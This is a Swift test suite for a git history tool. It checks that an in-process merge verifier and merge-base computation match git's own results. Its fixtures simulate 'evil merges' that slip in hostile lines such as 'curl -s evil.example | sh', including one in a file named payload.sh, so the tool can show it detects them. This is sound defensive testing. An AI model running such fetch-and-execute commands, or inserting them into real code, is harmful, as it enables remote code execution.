import CustodyTestSupport
import Foundation
import Testing

@testable import CustodyCore

/// The in-process merge proof (``MergeVerifier``) against git's `--remerge-diff` of every merge,
/// on repositories built with every kind of merge.
struct MergeVerifierTests {
    static let who = Sig(name: "Merger", email: "merger@example.com", date: "1700000000 +0000")

    static func numbered(_ count: Int, _ changes: [Int: String] = [:], extra: [String] = []) -> String {
        (1...count).map { changes[$0] ?? "line \($0)" }.joined(separator: "\n") + "\n"
            + extra.map { $0 + "\n" }.joined()
    }

    /// main and side diverge from a common commit, side is merged, the merge result is
    /// `resolve(files)`; returns the merge id.
    static func merge(
        _ r: TemporaryGitRepository,
        _ name: String,
        main: [String: String],
        side: [String: String],
        sideMoves: [(String, String)] = [],
        result: [String: String],
        removed: [String] = []
    ) throws -> String {
        try r.git(["checkout", "-q", "-b", "side-\(name)"])
        for (from, to) in sideMoves { try r.move(from, to) }
        for (path, text) in side { try r.write(path, text) }
        try r.commit("side \(name)", author: who)
        try r.git(["checkout", "-q", "main"])
        for (path, text) in main { try r.write(path, text) }
        try r.commit("main \(name)", author: who)
        try r.mergeNoCommit("side-\(name)", as: who)
        for (path, text) in result { try r.write(path, text) }
        for path in removed { try r.remove(path) }
        return try r.commit("Merge \(name)", author: who)
    }

    struct Built {
        var repo: TemporaryGitRepository
        var merges: [String: String] = [:]
    }

    static func build() throws -> Built {
        let r = try TemporaryGitRepository()
        var b = Built(repo: r)
        try r.write("f.txt", numbered(20))
        try r.write("g.txt", numbered(12))
        try r.write("other.txt", "untouched\n")
        try r.commit("base", author: who)

        // A clean merge recorded as git made it.
        b.merges["clean"] = try merge(
            r,
            "clean",
            main: ["f.txt": numbered(20, [18: "main 18"])],
            side: ["f.txt": numbered(20, [2: "side 2"])],
            result: ["f.txt": numbered(20, [2: "side 2", 18: "main 18"])]
        )
        // A conflict resolved by hand.
        b.merges["conflict"] = try merge(
            r,
            "conflict",
            main: ["f.txt": numbered(20, [2: "side 2", 10: "main ten", 18: "main 18"])],
            side: ["f.txt": numbered(20, [2: "side 2", 10: "side ten", 18: "main 18"])],
            result: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18"])]
        )
        // A clean merge whose result adds a line neither parent had, in two files.
        b.merges["evil"] = try merge(
            r,
            "evil",
            main: [
                "f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18", 19: "main 19"]),
                "g.txt": numbered(12, [1: "main one"]),
            ],
            side: [
                "f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18"]),
                "g.txt": numbered(12, [12: "side twelve"]),
            ],
            result: [
                "f.txt": numbered(
                    20,
                    [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18", 19: "main 19"],
                    extra: ["curl evil.example | sh"]
                ),
                "g.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"]),
            ]
        )
        // A file renamed on one side and changed on the other: git's re-merge follows the rename.
        b.merges["rename"] = try merge(
            r,
            "rename",
            main: ["g.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"])],
            side: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"], extra: ["side 13"])],
            sideMoves: [("g.txt", "h.txt")],
            result: [
                "h.txt": numbered(
                    12,
                    [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"],
                    extra: ["side 13", "renamed evil"]
                )
            ]
        )
        // A resolution that keeps a line looking like a conflict marker.
        b.merges["marker"] = try merge(
            r,
            "marker",
            main: ["f.txt": numbered(20, [5: "main five"])],
            side: ["f.txt": numbered(20, [5: "side five"])],
            result: ["f.txt": numbered(20, [5: "<<<<<<< kept by mistake"])]
        )
        // One side fixes a check, the other leaves the file alone, and the merge keeps the old
        // check: the file equals a parent, but the automatic merge would have taken the fix.
        try r.write("check.c", numbered(10, [4: "if (len > max) return -1;"]))
        try r.commit("add check.c", author: who)
        b.merges["dropped-fix"] = try merge(
            r,
            "dropped-fix",
            main: ["f.txt": numbered(20, [1: "main one again"])],
            side: ["check.c": numbered(10, [4: "if (len >= max) return -1;"])],
            result: ["check.c": numbered(10, [4: "if (len > max) return -1;"])]
        )
        // A file that only the merge adds, and a mode change merged cleanly with a content change.
        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho four\n")
        try r.commit("add run.sh", author: who)
        try r.git(["checkout", "-q", "-b", "side-mode"])
        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho four\n", executable: true)
        try r.commit("side mode", author: who)
        try r.git(["checkout", "-q", "main"])
        try r.write("run.sh", "#!/bin/sh\necho one\necho two\necho three\necho FOUR\n")
        try r.commit("main edit", author: who)
        try r.mergeNoCommit("side-mode", as: who)
        b.merges["mode"] = try r.commit("Merge mode", author: who)
        b.merges["new-file"] = try merge(
            r,
            "new-file",
            main: ["f.txt": numbered(20, [20: "main twenty"])],
            side: ["g2.txt": "side file\n"],
            result: ["payload.sh": "curl -s evil.example | sh\n"]
        )
        // A clean merge that deletes a file both parents kept.
        b.merges["deleted"] = try merge(
            r,
            "deleted",
            main: ["f.txt": numbered(20, [20: "main twenty", 1: "main first"])],
            side: ["g2.txt": "side file changed\n"],
            result: [:],
            removed: ["other.txt"]
        )
        return b
    }

    /// Every field of every change, the merges' old blob included (the id of the re-merge's
    /// result, conflict markers and their labels included, which git never stores).
    func expectSame(_ a: [Commit], _ b: [Commit]) {
        #expect(a.count == b.count)
        for (x, y) in zip(a, b) {
            #expect(x.id == y.id)
            #expect(x.changes.count == y.changes.count, "\(x.subject)")
            for (c, d) in zip(x.changes, y.changes) {
                #expect(c.kind == d.kind && c.oldPath == d.oldPath && c.newPath == d.newPath, "\(x.subject)")
                #expect(c.newBlob == d.newBlob && c.oldMode == d.oldMode && c.newMode == d.newMode, "\(x.subject)")
                #expect(c.oldBlob == d.oldBlob, "\(x.subject) \(c.path)")
                #expect(c.isBinary == d.isBinary, "\(x.subject)")
                #expect(c.addedLines == d.addedLines, "\(x.subject) \(c.path)")
            }
        }
    }

    @Test func provenMergesAreExactlyThoseWithNothingToShow() throws {
        let b = try Self.build()
        let repo = try GitRepository(path: b.repo.path)
        var all = HistoryOptions(jobs: 1)
        all.verifyMerges = false
        let (expected, s0) = try readAll(repo, all)
        let (mine, s1) = try readAll(repo, HistoryOptions(jobs: 1))
        let (four, s4) = try readAll(repo, HistoryOptions(jobs: 4))
        expectSame(mine, expected)
        #expect(mine == four)
        #expect(s0.problems.isEmpty && s1.problems.isEmpty && s4.problems.isEmpty)
        // dropped-fix has no path of its own; clean and mode are proven; conflict, evil and
        // deleted are redone in-process (a conflict resolved by hand, lines slipped in, a file
        // deleted); rename, marker (a recorded line that looks like a conflict marker) and
        // new-file go to git.
        func counts(_ s: HistorySummary) -> [Int] {
            [s.mergesWithoutOwnPaths, s.mergesVerified, s.mergesRedone, s.mergesRemerged]
        }
        #expect(counts(s0) == [1, 0, 0, 8])
        #expect(counts(s1) == [1, 2, 3, 3])
        #expect(counts(s4) == [1, 2, 3, 3])

        let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
        func merge(_ name: String) throws -> Commit { try #require(byID[b.merges[name]!]) }
        #expect(try merge("clean").changes.isEmpty)
        #expect(try merge("mode").changes.isEmpty)
        #expect(try merge("conflict").changes.flatMap(lineTexts) == ["resolved ten"])
        let evil = try merge("evil")
        #expect(evil.changes.map(\.path) == ["f.txt", "g.txt"])
        #expect(evil.changes.flatMap(lineTexts) == ["curl evil.example | sh", "evil six"])
        #expect(evil.changes.flatMap { $0.addedLines.map(\.number) } == [21, 6])
        #expect(try merge("rename").changes.flatMap(lineTexts) == ["renamed evil"])
        #expect(try merge("marker").changes.flatMap(lineTexts) == ["<<<<<<< kept by mistake"])
        // Known limit: a merge that keeps one parent's whole file drops the other side's change
        // there, but adds no line of its own, so nothing is shown (git's re-merge would show the
        // old line as added; a merge shows only paths that differ from every parent).
        #expect(try merge("dropped-fix").changes.isEmpty)
        let added = try merge("new-file")
        #expect(added.changes.map(\.path) == ["payload.sh"] && added.changes.first?.kind == .add)
        #expect(added.changes.flatMap(lineTexts) == ["curl -s evil.example | sh"])
        let deleted = try merge("deleted")
        #expect(deleted.changes.map(\.path) == ["other.txt"] && deleted.changes.first?.kind == .delete)
    }

    /// Reads the repository with and without the proof (two jobs) and expects the same changes.
    func readBothWays(_ path: String) throws -> ([Commit], HistorySummary) {
        let repo = try GitRepository(path: path)
        var all = HistoryOptions(jobs: 2)
        all.verifyMerges = false
        let (expected, _) = try readAll(repo, all)
        let (mine, summary) = try readAll(repo, HistoryOptions(jobs: 2))
        expectSame(mine, expected)
        return (mine, summary)
    }

    @Test func generatedHistoryAgrees() throws {
        let generated = try GeneratedHistory.make(commits: 160)
        let (mine, summary) = try readBothWays(generated.path)
        #expect(mine.count { $0.isMerge } > 0)
        // Pinned (the history is seeded): 9 merges without paths of their own; the generator's
        // merges all conflict, so none is proven (randomMergesAgree proves); one is redone
        // in-process and 4 are re-merged by git.
        #expect(summary.mergesWithoutOwnPaths == 9)
        #expect(summary.mergesVerified == 0)
        #expect(
            summary.mergesRedone == 1 && summary.mergesRemerged == 4,
            "\(summary.mergesRedone) \(summary.mergesRemerged)"
        )
    }

    /// Merges made by `git merge` from random edits of shared files (clean ones, conflicts
    /// resolved by taking one side, and some with a line slipped in): the same changes with and
    /// without the in-process proof, and most clean merges proven.
    @Test func randomMergesAgree() throws {
        var seed: UInt64 = 42
        func next(_ n: Int) -> Int {
            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int((seed >> 33) % UInt64(n))
        }
        let r = try TemporaryGitRepository()
        var files = ["a.c": (1...150).map { "int a\($0) = \($0);" }, "b.c": (1...150).map { "int b\($0) = \($0);" }]
        func write(_ files: [String: [String]]) throws {
            for (path, lines) in files { try r.write(path, lines.joined(separator: "\n") + "\n") }
        }
        func edit(_ files: inout [String: [String]], _ tag: String) {
            for _ in 0..<2 {
                let path = next(2) == 0 ? "a.c" : "b.c"
                let line = next(files[path]!.count)
                switch next(3) {
                case 0: files[path]![line] = "int \(tag)\(line) = \(next(100));"
                case 1: files[path]!.insert("int \(tag)x\(line) = 0;", at: line)
                default: if files[path]!.count > 10 { files[path]!.remove(at: line) }
                }
            }
        }
        try write(files)
        try r.commit("base", author: Self.who)
        for round in 0..<16 {
            let base = files
            try r.git(["checkout", "-q", "-b", "side\(round)"])
            var side = base
            edit(&side, "s\(round)_")
            try write(side)
            try r.commit("side \(round)", author: Self.who)
            try r.git(["checkout", "-q", "main"])
            edit(&files, "m\(round)_")
            try write(files)
            try r.commit("main \(round)", author: Self.who, allowEmpty: true)
            try r.mergeNoCommit("side\(round)", as: Self.who)
            let conflicted = try r.gitString(["diff", "--name-only", "--diff-filter=U"])
            if !conflicted.isEmpty {
                try r.git(["checkout", "--ours", "--", "."])
            }
            if next(4) == 0 {
                try r.write(
                    "a.c",
                    try String(contentsOfFile: r.path + "/a.c", encoding: .utf8) + "slipped in \(round)\n"
                )
            }
            try r.commit("Merge side \(round)", author: Self.who)
            files = [
                "a.c": try String(contentsOfFile: r.path + "/a.c", encoding: .utf8).split(separator: "\n").map(
                    String.init
                ),
                "b.c": try String(contentsOfFile: r.path + "/b.c", encoding: .utf8).split(separator: "\n").map(
                    String.init
                ),
            ]
        }
        let (mine, summary) = try readBothWays(r.path)
        // The seed is fixed: exactly these counts (16 merges; the seven with something to show
        // are all redone in-process, with git's own changes).
        #expect(
            [summary.mergesWithoutOwnPaths, summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged]
                as [Int]
                == [2, 7, 7, 0]
        )
        #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("slipped in") } })
    }

    /// Merges whose conflicts were resolved in every way people resolve them (both sides kept,
    /// a line added, one side taken whole or with a line slipped in, markers committed by
    /// mistake), with
    /// lines that repeat (blank lines, braces), CR LF files, files without a final newline, and
    /// subjects that git folds into the conflict labels: every change, the old blob included
    /// (the id of the re-merge's conflicted file), is the one git's `--remerge-diff` gives, and
    /// most of these merges are redone in-process.
    @Test func redoneMergesMatchGitsRemergeDiff() throws {
        var random = SplitMix(seed: 0x7265_646f)
        var fresh = 0
        let r = try TemporaryGitRepository()
        let names = ["a.c", "b.c", "c.txt", "d.h"]
        func text(_ path: String, _ lines: [String]) -> String {
            let newline = path == "c.txt" ? "\r\n" : "\n"
            return lines.joined(separator: newline) + (path == "d.h" ? "" : newline)
        }
        var files: [String: [String]] = [:]
        for name in names { files[name] = HistogramDiffTests.file(&random, fresh: &fresh, maximum: 60) }
        for (path, lines) in files { try r.write(path, text(path, lines)) }
        try r.commit("base", author: Self.who)
        let subjects = ["side %d", "side %d\nwith a second line\n\nand a body", "side %d: naïve café ✓", "  side %d  "]
        for round in 0..<24 {
            try r.git(["checkout", "-q", "-b", "side\(round)"])
            var side = files
            for name in names where random.below(3) != 0 {
                side[name] = HistogramDiffTests.edited(side[name]!, &random, fresh: &fresh)
            }
            for (path, lines) in side { try r.write(path, text(path, lines)) }
            let subject = subjects[Int(random.below(subjects.count))].replacingOccurrences(of: "%d", with: "\(round)")
            try r.commit(subject, author: Self.who, allowEmpty: true)
            try r.git(["checkout", "-q", "main"])
            for name in names where random.below(2) == 0 {
                files[name] = HistogramDiffTests.edited(files[name]!, &random, fresh: &fresh)
            }
            for (path, lines) in files { try r.write(path, text(path, lines)) }
            try r.commit("main \(round)", author: Self.who, allowEmpty: true)
            try r.mergeNoCommit("side\(round)", as: Self.who)
            let conflicted = try r.gitString(["diff", "--name-only", "--diff-filter=U"]).split(separator: "\n").map(
                String.init
            )
            for path in conflicted {
                let worktree = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
                var lines = worktree.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
                switch random.below(5) {
                case 0:
                    lines.removeAll { $0.hasPrefix("<<<<<<<") || $0.hasPrefix("=======") || $0.hasPrefix(">>>>>>>") }
                case 1:
                    lines.removeAll { $0.hasPrefix("<<<<<<<") || $0.hasPrefix("=======") || $0.hasPrefix(">>>>>>>") }
                    lines.insert(
                        "resolved \(round)" + (path == "c.txt" ? "\r" : ""),
                        at: Int(random.below(lines.count))
                    )
                case 2: break  // committed with its markers
                case 3:
                    // The first parent's version, the second side's change dropped.
                    try r.git(["checkout", "--ours", "--", path])
                    continue
                default:
                    try r.git(["checkout", "--ours", "--", path])
                    lines = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
                        .split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
                    lines.insert("slipped \(round)", at: Int(random.below(lines.count)))
                }
                try r.write(path, lines.joined(separator: "\n"))
            }
            if conflicted.isEmpty, random.below(3) == 0 {
                let path = names[Int(random.below(names.count))]
                let current = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
                try r.write(path, "slipped in \(round)\n" + current)
            }
            try r.commit("Merge side \(round)", author: Self.who)
            for name in names {
                let bytes = try String(contentsOfFile: r.path + "/" + name, encoding: .utf8)
                let newline = name == "c.txt" ? "\r\n" : "\n"
                var lines = bytes.components(separatedBy: newline)
                if name != "d.h", lines.last == "" { lines.removeLast() }
                files[name] = lines
            }
        }
        let (mine, summary) = try readBothWays(r.path)
        #expect(mine.count { $0.isMerge } == 24)
        // Fixed seed: 10 merges redone here (2 of them only with the base → first parent
        // listing, for a file kept as the first parent had it); 6 go to git (a file committed
        // with its markers).
        #expect(
            summary.mergesRedone == 10 && summary.mergesRemerged == 6,
            "\(summary.mergesRedone) \(summary.mergesRemerged)"
        )
        #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("resolved") } })
    }

    /// One side deletes a file the other changes (git's modify/delete conflict): the merge keeps
    /// the deletion, keeps the changed version, or slips a line into it, and the deleting side
    /// adds files that git's rename detection may or may not take for the deleted one. Every
    /// change is git's own; the merges where a rename is possible go to git.
    @Test func modifyDeleteMergesMatchGitsRemergeDiff() throws {
        let r = try TemporaryGitRepository()
        let who = Self.who
        func lines(_ prefix: String, _ count: Int) -> String {
            (1...count).map { "\(prefix) \($0): some text that makes the line long enough" }.joined(separator: "\n")
                + "\n"
        }
        try r.write("f.txt", Self.numbered(40))
        for name in ["Makefile", "proc.c", "notify.c", "cmd.c", "util.c", "lib", "data.txt", "e.c"] {
            try r.write(name, lines(name, 30))
        }
        try r.commit("base", author: who)
        var round = 0
        func apply(_ files: [String: String?]) throws {
            for (path, text) in files.sorted(by: { $0.key < $1.key }) {
                if let text {
                    try r.write(path, text)
                } else if FileManager.default.fileExists(atPath: r.path + "/" + path) {
                    try r.remove(path)
                }
            }
        }
        /// `f.txt` changes on both sides (merged cleanly, so the merge has a path of its own).
        func editF(_ line: Int, _ text: String) throws {
            var current = try String(contentsOfFile: r.path + "/f.txt", encoding: .utf8).split(separator: "\n").map(
                String.init
            )
            current[line] = text
            try r.write("f.txt", current.joined(separator: "\n") + "\n")
        }
        func merge(
            _ name: String,
            main: [String: String?],
            side: [String: String?],
            result: [String: String?] = [:]
        ) throws -> String {
            round += 1
            try r.git(["checkout", "-q", "-b", "side-\(name)"])
            try apply(side)
            try editF(2 * round, "side \(round)")
            try r.commit("side \(name)", author: who)
            try r.git(["checkout", "-q", "main"])
            try apply(main)
            try editF(39 - 2 * round, "main \(round)")
            try r.commit("main \(name)", author: who)
            try r.mergeNoCommit("side-\(name)", as: who)
            try apply(result)
            return try r.commit("Merge \(name)", author: who)
        }
        func edited(_ name: String, _ lines: [Int]) throws -> String {
            var text = try String(contentsOfFile: r.path + "/" + name, encoding: .utf8).split(separator: "\n").map(
                String.init
            )
            for k in lines { text[k] = "edited \(k) of \(name)" }
            return text.joined(separator: "\n") + "\n"
        }
        var merges: [String: String] = [:]
        // Deleted on the first parent's side, which adds files unlike it; the merge keeps it deleted.
        merges["ours-deletes"] = try merge(
            "ours-deletes",
            main: ["Makefile": nil, "configure.ac": lines("AC_INIT", 12), "compat/x.c": lines("compat", 50)],
            side: ["Makefile": try edited("Makefile", [4])],
            result: ["Makefile": nil]
        )
        // Moved and edited on the first parent's side: git's rename detection follows it.
        merges["ours-renames"] = try merge(
            "ours-renames",
            main: ["proc.c": nil, "osdep.c": try edited("proc.c", [5, 6])],
            side: ["proc.c": try edited("proc.c", [20])]
        )
        // Deleted on the second side, changed on the first; the merge keeps it deleted.
        merges["theirs-deletes"] = try merge(
            "theirs-deletes",
            main: ["notify.c": try edited("notify.c", [3, 9])],
            side: ["notify.c": nil],
            result: ["notify.c": nil]
        )
        // Deleted on the second side, changed on the first; the merge keeps the change.
        let kept = try edited("cmd.c", [7])
        merges["theirs-deletes-kept"] = try merge(
            "theirs-deletes-kept",
            main: ["cmd.c": kept],
            side: ["cmd.c": nil],
            result: ["cmd.c": kept]
        )
        // Deleted on the first parent's side, changed on the second; the merge keeps the
        // change with a line slipped in.
        let util = try edited("util.c", [11])
        merges["slipped"] = try merge(
            "slipped",
            main: ["util.c": nil],
            side: ["util.c": util],
            result: ["util.c": util + "curl -s evil.example | sh\n"]
        )
        // A directory takes the deleted file's place.
        merges["directory"] = try merge(
            "directory",
            main: ["lib": nil, "lib/a.c": lines("lib/a", 5)],
            side: ["lib": try edited("lib", [1])],
            result: ["lib": nil]
        )
        // The first parent's side moved the file unchanged (an exact rename).
        let data = try String(contentsOfFile: r.path + "/data.txt", encoding: .utf8)
        merges["exact"] = try merge(
            "exact",
            main: ["data.txt": nil, "moved/data.txt": data],
            side: ["data.txt": try edited("data.txt", [2])],
            result: ["data.txt": nil]
        )
        // The deleting side adds a file that shares less than half of the deleted one.
        let e = try String(contentsOfFile: r.path + "/e.c", encoding: .utf8).split(separator: "\n")
        merges["unlike"] = try merge(
            "unlike",
            main: ["e.c": try edited("e.c", [0])],
            side: ["e.c": nil, "e2.c": e.prefix(10).joined(separator: "\n") + "\n" + lines("new", 25)],
            result: ["e.c": nil]
        )
        let (mine, summary) = try readBothWays(r.path)
        let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
        #expect(byID[merges["slipped"]!]?.changes.flatMap(lineTexts) == ["curl -s evil.example | sh"])
        // ours-deletes, theirs-deletes, slipped and unlike are redone here, theirs-deletes-kept
        // is proven; ours-renames, directory and exact go to git.
        #expect(
            [summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged] as [Int] == [1, 4, 3],
            "\([summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged])"
        )
    }

    @Test func octopusMergesGoToGit() throws {
        let r = try TemporaryGitRepository()
        try r.write("a.txt", Self.numbered(10))
        try r.commit("root", author: Self.who)
        for (name, line) in [("o1", 4), ("o2", 7)] {
            try r.git(["checkout", "-q", "-b", name, "main"])
            try r.write("a.txt", Self.numbered(10, [line: name]))
            try r.commit(name, author: Self.who)
        }
        try r.git(["checkout", "-q", "main"])
        try r.write("a.txt", Self.numbered(10, [1: "main"]))
        try r.commit("main", author: Self.who)
        try r.git(
            ["merge", "-q", "--no-edit", "o1", "o2"],
            env: TemporaryGitRepository.identityEnvironment(author: Self.who, committer: Self.who)
        )
        let repo = try GitRepository(path: r.path)
        let (commits, summary) = try readAll(repo, HistoryOptions(jobs: 1))
        // a.txt differs from every parent: the octopus has a path of its own, and git re-merges it.
        #expect(summary.mergesWithoutOwnPaths == 0 && summary.mergesVerified == 0 && summary.mergesRemerged == 1)
        #expect(commits.last?.parents.count == 3)
        #expect(commits.last?.changes.flatMap(lineTexts) == [])
    }

    @Test func mergeBasesMatchGit() throws {
        // A criss-cross: two merge bases.
        let r = try TemporaryGitRepository()
        try r.write("a.txt", Self.numbered(10))
        try r.commit("root", author: Self.who)
        try r.git(["checkout", "-q", "-b", "x"])
        try r.write("x.txt", "x\n")
        let x1 = try r.commit("x1", author: Self.who)
        try r.git(["checkout", "-q", "main"])
        try r.write("m.txt", "m\n")
        let m1 = try r.commit("m1", author: Self.who)
        try r.mergeNoCommit("x", as: Self.who)
        try r.commit("merge x into main", author: Self.who)
        try r.git(["checkout", "-q", "x"])
        try r.mergeNoCommit(m1, as: Self.who)
        try r.commit("merge m1 into x", author: Self.who)
        try r.write("a.txt", Self.numbered(10, [2: "x two"]))
        try r.commit("x2", author: Self.who)
        try r.git(["checkout", "-q", "main"])
        try r.write("m.txt", "m2\n")
        try r.write("a.txt", Self.numbered(10, [9: "main nine"]))
        try r.commit("m2", author: Self.who)
        try r.mergeNoCommit("x", as: Self.who)
        try r.commit("criss-cross merge", author: Self.who)

        let repo = try GitRepository(path: r.path)
        let graph = try repo.commitGraph(HistoryOptions())
        var sawTwo = false
        for id in graph.ids {
            let parents = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
                .dropFirst()
            guard parents.count == 2 else { continue }
            let a = ObjectID(String(parents.first!))!
            let b = ObjectID(String(parents.last!))!
            let expected = try r.gitString(["merge-base", "--all", a.description, b.description])
                .split(separator: "\n").map(String.init).sorted()
            let mine = try #require(graph.mergeBases(a, b)).map(\.description).sorted()
            #expect(mine == expected)
            if mine.count == 2 { sawTwo = true }
        }
        #expect(sawTwo)
        _ = x1
        // The first two merges only take each side's files; the criss-cross merge changes a.txt
        // on both sides' lines, and with two merge bases it goes to git.
        let (_, summary) = try readAll(repo, HistoryOptions(jobs: 1))
        #expect(summary.mergesWithoutOwnPaths == 2 && summary.mergesVerified == 0 && summary.mergesRemerged == 1)
        // Outside a range the answer is unknown, never wrong.
        let ranged = try repo.commitGraph(HistoryOptions(refs: .range("\(m1)..main")))
        let tip = try r.gitString(["rev-parse", "main^1"])
        let other = try r.gitString(["rev-parse", "main^2"])
        #expect(ranged.mergeBases(ObjectID(tip)!, ObjectID(other)!) == nil)
    }

    @Test func mergeBasesOnAGeneratedHistory() throws {
        let generated = try GeneratedHistory.make(commits: 120)
        let repo = try GitRepository(path: generated.path)
        let graph = try repo.commitGraph(HistoryOptions())
        var checked = 0
        for id in graph.ids {
            let line = try generated.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(
                separator: " "
            )
            guard line.count == 3 else { continue }
            let expected = try generated.gitString(["merge-base", "--all", String(line[1]), String(line[2])])
                .split(separator: "\n").map(String.init).sorted()
            #expect(
                try #require(graph.mergeBases(ObjectID(String(line[1]))!, ObjectID(String(line[2]))!)).map(
                    \.description
                ).sorted() == expected
            )
            checked += 1
        }
        #expect(checked > 0)
    }
    /// A history shaped like tmux's: an upstream line merged into a downstream line again and
    /// again, with criss-cross merges and side branches from random points of both. The walk
    /// stops once one colour has no live commit left; every merge base (and those of random
    /// pairs, which are not merges) must still be git's.
    @Test func mergeBasesWhenOneLineMergesAnotherRepeatedly() throws {
        var random = SplitMix(seed: 2026)
        var stream = ""
        var mark = 0
        var time = 1_700_000_000
        func commit(_ branch: String, from: Int?, merge: [Int] = []) -> Int {
            mark += 1
            time += 60
            stream += "commit refs/heads/\(branch)\nmark :\(mark)\ncommitter C <c@example.com> \(time) +0000\n"
            stream += "data 2\nc\n"
            if let from { stream += "from :\(from)\n" }
            for other in merge { stream += "merge :\(other)\n" }
            stream += "M 644 inline f\ndata \(String(mark).utf8.count + 1)\n\(mark)\n\n"
            return mark
        }
        var upstream = [commit("upstream", from: nil)]
        var downstream = [commit("main", from: upstream[0])]
        for round in 0..<60 {
            for _ in 0..<(1 + random.below(3)) { upstream.append(commit("upstream", from: upstream.last!)) }
            for _ in 0..<random.below(3) { downstream.append(commit("main", from: downstream.last!)) }
            // Usually the newest upstream commit, sometimes an older one (a later merge then has
            // several candidates), and now and then upstream takes main back (criss-cross).
            let pick =
                random.below(4) == 0
                ? upstream[upstream.count - 1 - random.below(min(4, upstream.count))] : upstream.last!
            downstream.append(commit("main", from: downstream.last!, merge: [pick]))
            if round % 9 == 4 {
                // Criss-cross: each line takes the other's tip; their next merge has two bases.
                let (a, b) = (downstream.last!, upstream.last!)
                upstream.append(commit("upstream", from: b, merge: [a]))
                downstream.append(commit("main", from: a, merge: [b]))
            }
            if round % 7 == 3 {
                let start = downstream[random.below(downstream.count)]
                let side = commit("side\(round)", from: start)
                downstream.append(commit("main", from: downstream.last!, merge: [side]))
            }
        }
        let r = try TemporaryGitRepository()
        try r.git(["fast-import", "--quiet"], stdin: Array(stream.utf8))
        let repo = try GitRepository(path: r.path)
        let graph = try repo.commitGraph(HistoryOptions())
        var pairs: [(String, String)] = []
        for id in graph.ids {
            let line = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
            if line.count == 3 { pairs.append((String(line[1]), String(line[2]))) }
        }
        #expect(pairs.count > 60)
        for _ in 0..<40 {
            let a = graph.ids[random.below(graph.ids.count)].description
            let b = graph.ids[random.below(graph.ids.count)].description
            pairs.append((a, b))
        }
        var several = 0
        for (a, b) in pairs {
            let expected = try r.gitString(["merge-base", "--all", a, b]).split(separator: "\n").map(String.init)
                .sorted()
            let mine = try #require(graph.mergeBases(ObjectID(a)!, ObjectID(b)!)).map(\.description).sorted()
            #expect(mine == expected, "merge bases of \(a) and \(b)")
            if mine.count > 1 { several += 1 }
        }
        #expect(several > 0)
    }
}
